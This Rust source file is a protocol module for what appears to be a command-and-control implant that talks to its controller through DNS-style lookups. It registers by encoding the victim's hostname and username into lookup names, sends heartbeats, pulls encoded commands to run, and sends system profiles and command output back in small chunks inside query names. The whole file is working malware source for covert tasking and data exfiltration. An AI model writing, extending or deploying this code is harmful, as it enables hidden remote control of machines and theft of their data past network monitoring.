//! The bespoke dot-separated grammar.

use async_trait::async_trait;
use tracing::{debug, info};

use super::Dialect;
use crate::{
    chunk::ChunkSender,
    encoding,
    messages::HostProfile,
    package::{self, PackageType},
    transport::{LookupClient, ACK},
    Result,
};

/// Raw bytes per result chunk; keeps the encoded form inside one label.
pub const CHUNK_SIZE: usize = 30;

/// Sentinel agent id used by the reachability probe.
const PROBE_AGENT: &str = "test-agent";

/// Result id carried by the check-in transmission.
const CHECKIN_RESULT_ID: &str = "checkin";

pub struct MinimalDialect {
    agent_id: String,
    address: String,
    client: LookupClient,
}

impl MinimalDialect {
    pub fn new(agent_id: String, address: String, client: LookupClient) -> Self {
        MinimalDialect {
            agent_id,
            address,
            client,
        }
    }

    pub fn agent_id(&self) -> &str {
        &self.agent_id
    }

    fn tasking_name(&self, agent_id: &str) -> String {
        format!("cmd.{agent_id}.{}", self.address)
    }

    fn result_name(&self, result_id: &str, chunk: &str) -> String {
        format!(
            "result.{}.{result_id}.{chunk}.{}",
            self.agent_id, self.address
        )
    }

    async fn send_chunked(&self, result_id: &str, payload: &[u8]) -> Result<()> {
        ChunkSender::new(&self.client, CHUNK_SIZE)
            .send(payload, |_, chunk| self.result_name(result_id, chunk))
            .await
    }

    /// Registers with the controller; a non-empty answer is our assigned id.
    pub async fn register(&mut self, profile: &HostProfile) -> Result<()> {
        let record = format!("host={};user={}", profile.hostname, profile.username);
        let name = format!(
            "register.{}.{}",
            encoding::encode(record.as_bytes()),
            self.address
        );

        let assigned = self.client.lookup(&name).await?;
        if !assigned.is_empty() {
            info!(%assigned, "controller assigned agent id");
            self.agent_id = assigned;
        }
        Ok(())
    }

    /// Lightweight liveness beacon; true when the controller acknowledged.
    pub async fn heartbeat(&self, profile: &HostProfile) -> Result<bool> {
        let record = format!(
            "host={};user={};time={}",
            profile.hostname,
            profile.username,
            chrono::Local::now().format("%Y-%m-%d %H:%M:%S")
        );
        let name = format!(
            "heartbeat.{}.{}.{}",
            self.agent_id,
            encoding::encode(record.as_bytes()),
            self.address
        );
        Ok(self.client.lookup(&name).await? == ACK)
    }

    /// Tells the controller this agent is going away.
    pub async fn unregister(&self) -> Result<bool> {
        let name = format!("unregister.{}.{}", self.agent_id, self.address);
        Ok(self.client.lookup(&name).await? == ACK)
    }

    /// Pulls the controller-side configuration string.
    pub async fn fetch_config(&self) -> Result<String> {
        let name = format!("config.{}.{}", self.agent_id, self.address);
        let answer = self.client.lookup(&name).await?;
        let decoded = encoding::decode(&answer)?;
        Ok(String::from_utf8_lossy(&decoded).into_owned())
    }

    fn fresh_result_id() -> String {
        format!("{:08x}", fastrand::u32(..))
    }
}

#[async_trait]
impl Dialect for MinimalDialect {
    async fn probe(&self) -> Result<bool> {
        // Any non-empty answer counts, whatever it says; the controller
        // answers probes from unknown agents too, so this overreports.
        let name = self.tasking_name(PROBE_AGENT);
        Ok(self
            .client
            .lookup_opt(&name)
            .await
            .is_some_and(|answer| !answer.is_empty()))
    }

    async fn check_in(&mut self, profile: &HostProfile) -> Result<()> {
        self.register(profile).await?;

        let body = serde_json::to_vec(profile)?;
        let framed = package::pack(PackageType::SysInfo, &body);
        self.send_chunked(CHECKIN_RESULT_ID, &framed).await
    }

    async fn request_tasking(&mut self) -> Result<Option<String>> {
        let name = self.tasking_name(&self.agent_id);
        let Some(answer) = self.client.lookup_opt(&name).await else {
            return Ok(None);
        };

        let command = match encoding::decode(&answer) {
            Ok(bytes) => String::from_utf8_lossy(&bytes).into_owned(),
            Err(e) => {
                debug!(error = %e, "tasking answer did not decode, treating as idle");
                return Ok(None);
            }
        };

        if command.is_empty() {
            return Ok(None);
        }
        Ok(Some(command))
    }

    async fn send_result(&mut self, result: &str) -> Result<()> {
        let result_id = Self::fresh_result_id();
        debug!(%result_id, len = result.len(), "reporting result");
        self.send_chunked(&result_id, result.as_bytes()).await
    }
}
